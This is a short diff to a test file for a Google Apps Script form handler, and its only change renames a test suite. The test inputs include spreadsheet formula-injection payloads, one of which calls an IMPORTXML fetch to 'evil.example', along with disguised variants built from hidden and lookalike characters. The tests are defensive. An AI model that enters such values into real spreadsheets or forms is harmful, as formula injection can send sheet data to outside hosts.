@@ -10,7 +10,7 @@ beforeEach(() => {
 
 const post = (payload: unknown, id?: string) => script.post(payload, id ? { submission: id } : {});
 
-describe('case 21 docs/apps-script.gs', () => {
+describe('§7.1 docs/apps-script.gs', () => {
   const formulas = ['=1+1', '=IMPORTXML("https://evil.example","//a")', '+919876543210', '-1', '@SUM(A1)'];
   const hidden = ['\t=1', '\r=1', '\n=1', '\uff1d1', '\uff0b1', '\u202e=1', '\ufeff=1', '\u0000=1', ' =1'];
   const guessed = ['015112345678', '1/2', '1e5', '2026-03-02', '10:30', 'TRUE', '12345678901234567890', '5%', ''];
